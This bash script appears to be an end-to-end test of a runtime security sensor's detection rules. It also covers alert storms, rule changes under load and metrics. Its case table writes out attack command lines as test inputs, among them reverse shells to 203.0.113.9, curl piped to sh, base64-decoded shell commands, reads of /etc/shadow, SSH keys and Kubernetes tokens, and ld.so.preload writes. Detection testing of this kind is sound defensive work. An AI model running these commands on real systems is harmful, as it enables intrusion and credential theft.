#!/bin/bash
# test_rules.sh - the shipped rules on the running kernel: for each rule below what must fire and what is
# near and must not, both done for real; then a storm of one alert, and rules that change under load.
# What would touch this machine is done in a mount or network namespace of its own.
# shellcheck source=tests/e2e/lib.sh
. "$(dirname "$0")/lib.sh"

B=$T/bin
mkdir -p "$B" "$T/cg"

# A program of another name that does nothing.
as() {
	[ -e "$B/$1" ] || cp /bin/true "$B/$1"
	(exec -a "$1" "$B/$1" "${@:2}")
}

# Runs $2 where the folder $1 is empty and nobody else's.
in_empty() { unshare -m bash -c "mount -t tmpfs none '$1' && cd / && $2"; }

# Where there is a network with one address, and nobody on it.
alone() {
	echo "$1" >"$T/alone.sh" # not on a command line, which has a rule of its own
	unshare -n bash -c "ip link set lo up && ip addr add 198.51.100.1/32 dev lo && . '$T/alone.sh'"
}

# In a cgroup named as Docker names its own; the exec there tells whose it is.
in_container() { bash -c "echo \$\$ >'$CGROUP/cgroup.procs' && exec bash -c \"\$1\"" bash "$1"; }

# Starts a program under the name of the sensor, sends it a signal and ends it.
signal_sensor() {
	local pid

	"$B/rtsec-sensor" 60 &
	pid=$!
	until grep -qsx rtsec-sensor "/proc/$pid/comm"; do :; done
	kill "-$1" "$pid"
	wait "$pid"
}

# A program under the name $1 that connects to $3:$2.
connects() { alone "'$B/$1' -c ': < /dev/tcp/$3/$2'"; }

# Connects to $1 machines at a port of administration.
connects_to_many() {
	alone "ip route add local 198.51.100.0/24 dev lo; for i in {1..$1}; do : < /dev/tcp/198.51.100.\$i/22; done"
}

# RULE ## what must fire ## what must not, both called by act(); without those that this kernel has no file for.
cases() {
	local absent='^$'

	[ -e /proc/kcore ] || absent="$absent|^kernel-core-read"
	[ -e /proc/sys/kernel/sysrq ] || absent="$absent|^sysrq-trigger"
	[ -d /sys/kernel/debug ] || absent="$absent|^scheduler-debug-read"
	grep -Ev "$absent" <<-'END'
		fileless-execution ## "$TOOLS/attack" memfd /bin/true ## /bin/true
		shell-from-web-server ## "$B/nginx" -c '"$B/sh" x; :' ## "$B/nginx" -c '"$B/x" x; :'
		shell-from-application ## setsid "$B/java" -c '"$B/sh" x; :' server.jar ## setsid "$B/java" -c '"$B/sh" x; :' build.jar
		reverse-shell-dev-tcp ## as bash -c 'x >& /dev/tcp/203.0.113.9/1' ## as bash -c 'ls /dev/tty'
		reverse-shell-netcat ## as nc 203.0.113.9 1 -e /bin/sh ## as nc -zv localhost 22
		reverse-shell-fifo ## as sh -c 'mkfifo f;cat f|sh -i|nc h 1 >f' ## as mkfifo f
		reverse-shell-interpreter ## as python3 -c "import socket,pty;pty.spawn('/bin/sh')" ## as python3 -m http.server
		program-dropped-and-run ## "$B/x" ## /bin/true
		hidden-executable ## as .x ## as x
		download-piped-to-shell ## as bash -c 'curl -s http://h/x | sh' ## as bash -c 'curl -s http://h/x | jq .'
		encoded-command ## as sh -c 'echo aWQK | base64 -d | sh' ## as sh -c 'base64 -d a > b'
		ptrace-injection ## "$TOOLS/attack" ptrace-poke ## "$B/gdb" ptrace-poke
		ptrace-attach ## "$TOOLS/attack" ptrace-attach ## "$B/gdb" ptrace-attach
		anti-debugging ## "$TOOLS/attack" traceme ## "$B/lldb" -c '"$TOOLS/attack" traceme; :'
		proc-mem-write ## (exec 3<>/proc/self/mem) ## (exec 3</proc/self/mem)
		process-vm-write ## "$TOOLS/attack" vm-write ## "$B/gdb" vm-write
		memory-made-executable ## "$TOOLS/attack" mprotect ## "$B/node" mprotect
		loader-changed ## in_empty "$LOADER" ': > "$LOADER/ld-linux-x.so.2"' ## in_empty "$LOADER" ': > "$LOADER/ld-linux-x.txt"'
		dynamic-linker-hijack ## in_empty /etc ': > /etc/ld.so.preload' ## in_empty /etc ': > /etc/ld.so.x'
		linker-configuration-changed ## in_empty /etc 'mkdir /etc/ld.so.conf.d && : > /etc/ld.so.conf.d/x.conf' ## in_empty /etc ': > /etc/ld.x'
		ld-preload ## as env LD_PRELOAD=/tmp/x.so ls ## as env LD_PRELOAD=/usr/lib/x.so ls
		shadow-file-read ## cat /etc/shadow ## cat /etc/passwd
		private-key-read ## in_empty /root 'mkdir /root/.ssh && : > /root/.ssh/id_x && cat /root/.ssh/id_x' ## in_empty /root 'mkdir /root/.ssh && : > /root/.ssh/id_x.pub && cat /root/.ssh/id_x.pub'
		kernel-core-read ## head -c 1 /proc/kcore ## head -c 1 /proc/version
		aslr-inspected ## cat /proc/sys/kernel/randomize_va_space ## cat /proc/sys/kernel/pid_max
		scheduler-debug-read ## in_empty /sys/kernel/debug 'mkdir sys/kernel/debug/sched && : > /sys/kernel/debug/sched/debug && cat /sys/kernel/debug/sched/debug' ## cat /proc/schedstat
		proc-mem-read ## (exec 3</proc/self/mem) ## (exec 3</proc/self/maps)
		process-memory-read ## "$TOOLS/attack" vm-read ## "$B/gdb" vm-read
		log-file-deleted ## in_empty /var/log ': > /var/log/auth.log; rm /var/log/auth.log' ## in_empty /var/log ': > /var/log/x.log; rm /var/log/x.log'
		shell-history-removed ## in_empty /root ': > /root/.bash_history; rm /root/.bash_history' ## in_empty /root ': > /root/.x; rm /root/.x'
		security-tool-stopped ## as systemctl stop auditd.service ## as systemctl status auditd.service
		sensor-killed ## signal_sensor KILL ## signal_sensor HUP
		masquerade-kernel-thread ## (exec -a '[kworker/0:1]' "$B/x") ## (exec -a 'worker' "$B/x")
		immutable-flag-changed ## as chattr +i f ## as chattr +C f
		hidden-file-made-executable ## : > "$B/.h"; chmod 755 "$B/.h" ## : > "$B/h"; chmod 755 "$B/h"
		deleted-executable ## cp /bin/true "$B/d"; exec 3<"$B/d"; rm "$B/d"; /proc/self/fd/3 ## cp /bin/true "$B/e"; exec 3<"$B/e"; /proc/self/fd/3
		executable-deletes-itself ## cp /bin/rm "$B/gone" && "$B/gone" "$B/gone" ## touch "$B/f" && rm "$B/f"
		cgroup-release-agent ## : > "$T/cg/release_agent" ## cat "$T/cg/release_agent"
		cgroup-notify-on-release ## : > "$T/cg/notify_on_release" ## cat "$T/cg/notify_on_release"
		core-pattern-changed ## (exec 3<>/proc/sys/kernel/core_pattern) ## (exec 3</proc/sys/kernel/core_pattern)
		sysrq-trigger ## (exec 3<>/proc/sys/kernel/sysrq) ## (exec 3</proc/sys/kernel/sysrq)
		container-engine-socket ## "$TOOLS/attack" unix "$T/docker.sock" ## "$TOOLS/attack" unix "$T/system_bus_socket"
		disk-mounted-in-container ## in_container 'unshare -m mount -t tmpfs /dev/sda1 /mnt' ## unshare -m mount -t tmpfs /dev/sda1 /mnt
		device-read-in-container ## in_container "unshare -m bash -c 'mount -t tmpfs none /dev && : > /dev/sda && cat /dev/sda'" ## in_empty /dev ': > /dev/sda && cat /dev/sda'
		namespace-of-host-entered ## in_container 'nsenter -u -t $PPID /bin/true' ## nsenter -u -t $$ /bin/true
		nsenter-into-init ## as nsenter -t 1 -m sh ## as nsenter -t 100 -m sh
		service-account-token-read ## in_empty /run 'mkdir -p /run/secrets/kubernetes.io/serviceaccount && cd /run/secrets/kubernetes.io/serviceaccount && : > token && cat token' ## in_empty /run 'mkdir -p /run/secrets/kubernetes.io/serviceaccount && cd /run/secrets/kubernetes.io/serviceaccount && : > ca.crt && cat ca.crt'
		kubernetes-certificate-read ## in_empty /etc 'mkdir /etc/kubernetes && : > /etc/kubernetes/admin.conf && cat /etc/kubernetes/admin.conf' ## in_empty /etc 'mkdir /etc/kubernetes && : > /etc/kubernetes/x.txt && cat /etc/kubernetes/x.txt'
		kubernetes-api-connected ## in_container 'connects curl 6443 198.51.100.1' ## connects curl 6443 198.51.100.1
		container-drift ## in_container '"$B/apk"' ## "$B/apk"
		crypto-miner ## as a -o stratum+tcp://203.0.113.9:3333 ## as a -o tcp://203.0.113.9:3333
		mining-pool-connected ## connects m 3333 198.51.100.1 ## connects m 443 198.51.100.1
		shell-connects ## alone ': < /dev/tcp/198.51.100.1/9' ## alone ': < /dev/tcp/127.0.0.1/9'
		stdio-over-socket ## alone '(: < /dev/tcp/198.51.100.1/9; exec "$B/sh")' ## alone '(: < /dev/tcp/127.0.0.1/9; exec "$B/dash")'
		connection-by-dropped-program ## chmod 755 "$B/drop"; connects drop 443 198.51.100.1 ## chmod 755 "$B/drop2"; "$B/drop2" -c :
		ssh-from-dropped-program ## alone '"$B/lair" -c "$B/ssh -c \": < /dev/tcp/198.51.100.1/22\"; :"' ## connects ssh 22 198.51.100.1
		port-scan-tool ## as nmap 192.0.2.0/24 ## as nmcli d
		remote-command-tool ## as chisel client 203.0.113.9 ## as chsh
		many-hosts-connected ## connects_to_many 30 ## connects_to_many 29
		sudoers-changed ## in_empty /etc 'mkdir /etc/sudoers.d && : > /etc/sudoers.d/x' ## in_empty /etc ': > /etc/sudoers.x'
		cron-changed ## in_empty /etc 'mkdir /etc/cron.d && : > /etc/cron.d/x' ## in_empty /etc ': > /etc/cron.x'
		crontab-of-unusual-origin ## as crontab - ## as crontab -l
		shell-startup-file-changed ## in_empty /root ': > /root/.bashrc' ## in_empty /root ': > /root/.x'
		rc-script-changed ## in_empty /etc ': > /etc/rc.local' ## in_empty /etc ': > /etc/rc.x'
		systemd-unit-changed ## in_empty /etc 'mkdir -p /etc/systemd/system && : > /etc/systemd/system/x.service' ## in_empty /etc ': > /etc/x.service'
		ssh-authorized-keys-changed ## in_empty /root 'mkdir /root/.ssh && : > /root/.ssh/authorized_keys' ## in_empty /root ': > /root/keys'
		account-file-changed ## in_empty /etc ': > /etc/passwd; echo >> /etc/passwd' ## in_empty /etc ': > /etc/passwd.x; echo >> /etc/passwd.x'
		kernel-module-loaded ## as insmod /tmp/r.ko ## as lsmod
		bpf-program-loaded ## "$TOOLS/attack" bpf ## "$B/bpftool" bpf
		setuid-bit-set ## chmod 4755 "$B/x2" ## chmod 755 "$B/x2"
		user-became-root ## "$TOOLS/attack" root ## "$TOOLS/attack" euid
		polkit-exploit ## (exec -a '' "$B/pkexec") ## "$B/pkexec" id
		sudo-shell-escape ## "$B/vim" -c '"$B/sh"; :' ## "$B/vim" -c '"$B/sh" -c x; :'
		capability-to-file ## as setcap cap_setuid+ep /x ## as setcap cap_net_bind_service+ep /x
	END
}

# Programs under the names that the cases need.
given_programs() {
	local name

	for name in sh dash x x2 apk pkexec; do cp /bin/true "$B/$name"; done
	for name in nginx java lldb vim curl m drop drop2 lair ssh; do cp /bin/bash "$B/$name"; done
	for name in gdb node bpftool; do cp "$TOOLS/attack" "$B/$name"; done
	cp /bin/sleep "$B/rtsec-sensor"
	LOADER=$(dirname "$(readlink -f /lib*/ld-linux*.so.* | head -n 1)")
	# of the cpu controller, v1 or v2: the one that counts
	CGROUP=$(awk '$3 == "cgroup" && $4 ~ /(^|,)cpu(,|$)/ { v1 = $2 } $3 == "cgroup2" { v2 = $2 }
		END { print v1 ? v1 : v2 }' /proc/self/mounts)/rtsec-rules-$$/docker/$(head -c 32 /dev/urandom | od -An -tx1 | tr -d ' \n')
	mkdir -p "$CGROUP"
	export B T TOOLS LOADER CGROUP
	export -f as in_empty alone connects
}

# Does the $1 (fires or near) of all cases, each below a process of its own, whose pid is kept in $T/$1.
act() {
	local line rule rest thing

	while read -r line; do
		rule=${line%% ## *} rest=${line#* ## }
		thing=${rest%% ## *}
		[ "$1" = fires ] || thing=${rest#* ## }
		(eval "$thing"; :) </dev/null >/dev/null 2>&1 &
		echo "$rule $!" >>"$T/$1"
		wait "$!"
	done < <(cases)
	sort -o "$T/$1" "$T/$1"
}

# Lines "RULE PID" of $1 whose rule has an alert of a process that is PID, or below it.
alerted() {
	{
		ctl alerts get --limit 10000 -o ndjson |
			jq -r '.rule.id as $r | [.process.pid, .ancestry[].pid] | unique[] | "\($r) \(.)"'
		by_program stdio-over-socket sh dash
		by_program connection-by-dropped-program drop drop2
	} | sort -u | comm -12 - "$T/$1"
}

# An alert of a sequence knows only the parent of its last process; its program ($2 fires, $3 near) is ours alone.
by_program() {
	ctl alerts get --rule "$1" -o ndjson |
		jq -r --arg fires "$B/$2" --arg near "$B/$3" '.process.executable |
			select(. == $fires or . == $near) | if . == $fires then "fires" else "near" end' |
		sort -u | while read -r what; do grep -h "^$1 " "$T/$what"; done
}

given_shipped_rules() {
	local rule pid missing

	expect "the shipped rules are in force from the first start on" \
		"$(ctl rules apply rules -o ndjson | jq -s '[.[] | select(.change != "unchanged")] | length')" 0
	expect "all of them can run" "$(ctl rules get -o ndjson | jq -s '[.[] | select(.status != "ok")] | length')" 0
	expect "their own tests pass" "$(ctl rules test rules -o ndjson 2>/dev/null | jq -s '[.[] | select(.passed | not)] | length')" 0
	given_programs
	act near
	act fires
	# sequences wait for what comes after
	# shellcheck disable=SC2317 # called by until_true
	all_fired() {
		touch "$T/more"
		[ "$(alerted fires)" = "$(cat "$T/fires")" ]
	}
	until_true 60 all_fired
	missing=$(comm -13 <(alerted fires) "$T/fires")
	while read -r rule pid; do
		if grep -qx "$rule $pid" <<<"$missing"; then fail "$rule fires" "no alert"; else ok "$rule fires"; fi
	done <"$T/fires"
	missing=$(alerted near) # what happened before is alerted before
	while read -r rule pid; do
		if grep -qx "$rule $pid" <<<"$missing"; then fail "$rule: near" "it fired"; else ok "$rule: near stays quiet"; fi
	done <"$T/near"
	rmdir "$CGROUP" "${CGROUP%/*}" "${CGROUP%/*/*}"
}

# A watched file is opened flat out: one alert, every stored open counted, and what is not stored (a fast
# machine makes more than one workload may tell) is told.
given_a_storm() {
	local n=20000 made stored query

	[ "$SCALE" != full ] || n=200000
	touch "$T/watched"
	query="file where process.name == \"workload\" and file.path == \"$T/watched\""
	printf 'id: storm\nname: storm\nseverity: low\nquery: file where file.path == "%s"\n' "$T/watched" >"$T/storm.yml"
	expect "storm: the rule is applied" "$(ctl rules apply "$T/storm.yml" -o ndjson | jq -r .change)" created
	made=$("$TOOLS/workload" -n "$n" "$T/watched" | jq .made)
	as chisel storm # another rule's alert, behind it
	lost() {
		query --all 'rtsec where event.action in ("gap", "throttle")' 2>/dev/null |
			jq -s 'map(.rtsec.gap.count // .rtsec.throttle.count) | add // 0'
	}
	alerted() {
		ctl alerts get --rule storm -o ndjson | jq -s 'map(select(.process.name == "workload") | .count) | add'
	}
	# shellcheck disable=SC2317 # called by until_true
	counted() {
		stored=$(count "$query")
		[ $((stored + $(lost))) -ge "$made" ] && [ "$(alerted)" = "$stored" ]
	}
	until_true 30 counted
	stored=$(count "$query")
	expect "storm: every stored open is counted" "$(alerted)" "$stored"
	if [ "$stored" -le "$made" ] && [ $((stored + $(lost))) -ge "$made" ]; then
		ok "storm: what was made is stored or told (made $made, stored $stored)"
	else
		fail "storm: what was made is stored or told" "made $made, stored $stored, told $(lost)"
	fi
	expect "storm: in one alert" \
		"$(ctl alerts get --rule storm -o ndjson | jq -s 'map(select(.process.name == "workload")) | length')" 1
	# shellcheck disable=SC2317 # called by until_true
	other() { ctl alerts get --rule remote-command-tool -o ndjson | jq -se 'any(.process.args[1] == "storm")' >/dev/null; }
	until_true 30 other
	if other; then ok "storm: another rule's alert comes"; else fail "storm: another rule's alert comes" none; fi
}

# Rules are changed again and again while a watched file is opened: n of n.
given_rules_that_change() {
	local n=2000 made i

	[ "$SCALE" != full ] || n=10000
	touch "$T/steady"
	printf 'id: steady\nname: steady\nquery: file where file.path == "%s"\n' "$T/steady" >"$T/steady.yml"
	ctl rules apply "$T/steady.yml" >/dev/null
	"$TOOLS/workload" -r 1000 -n "$n" "$T/steady" >"$T/made.json" &
	for i in 1 2 3 4 5 6 7 8; do
		printf 'id: other\nname: other\nquery: process.name == "n%s"\n' "$i" >"$T/other.yml"
		ctl rules apply "$T/other.yml" >/dev/null
	done
	wait $!
	made=$(jq .made "$T/made.json")
	# shellcheck disable=SC2317 # called by until_true
	counted() { [ "$(ctl alerts get --rule steady -o ndjson | jq -s 'map(select(.process.name == "workload") | .count) | add')" = "$made" ]; }
	until_true 30 counted
	expect "rules change: $made of $made" \
		"$(ctl alerts get --rule steady -o ndjson | jq -s 'map(select(.process.name == "workload") | .count) | add')" "$made"
	expect "rules change: who did it is kept" "$(ctl rules history other -o ndjson | jq -r .author | sort -u)" dev
	expect "rules change: revisions are kept" "$(ctl rules history other -o ndjson | wc -l)" 8
}

# What rules have done and cost, for machines and for people.
given_counters() {
	local metrics

	metrics=$(curl -fsS -H "Authorization: Bearer $RTSEC_TOKEN" "$RTSEC_URL/metrics")
	value() { sed -n "s/^$1 //p" <<<"$metrics"; }
	expect "metrics: a rule's hits" "$(value 'rtsec_rule_hits_total{rule="storm"}')" \
		"$(ctl rules get storm -o ndjson | jq .hits)"
	expect "metrics: all but the first hits of a storm are suppressed" \
		"$([ "$(value rtsec_rules_suppressed_total)" -ge $(($(alerted) - 10)) ] && echo yes)" yes
	expect "metrics: every set of rules was loaded" "$(value rtsec_rules_failed_loads_total)" 0
	expect_json "rules cost: dearest first" "$(ctl rules cost -o ndjson | jq -s .)" \
		'(length > 70) and (.[0].cost_ns > 0) and ([.[].cost_ns] == ([.[].cost_ns] | sort | reverse))'
}

given_an_alert() {
	local id

	id=$(ctl alerts get --rule remote-command-tool -o ndjson | jq -s 'map(select(.process.args[1] == "storm"))[0].id')
	expect_json "alert: whole" "$(ctl alerts get "$id" -o ndjson)" '(.events | length) >= 1 and (.ancestry | length) >= 1 and .gaps != null'
	expect "alert: acknowledged" "$(ctl alerts ack "$id" --owner me -o ndjson | jq -r '.status + " " + .owner')" "acknowledged me"
	expect "alert: noted" "$(ctl alerts note "$id" --note looked -o ndjson | jq -r '.notes[-1].note')" looked
	expect "alert: excepted" "$(ctl alerts except "$id" --owner me --expires 2100-01-01 -o ndjson | jq -r '.exceptions[0].owner')" me
	expect "alert: closed" "$(ctl alerts close "$id" -o ndjson | jq -r .status)" closed
}

start_stack
given_shipped_rules
given_a_storm
given_rules_that_change
given_counters
given_an_alert
finish
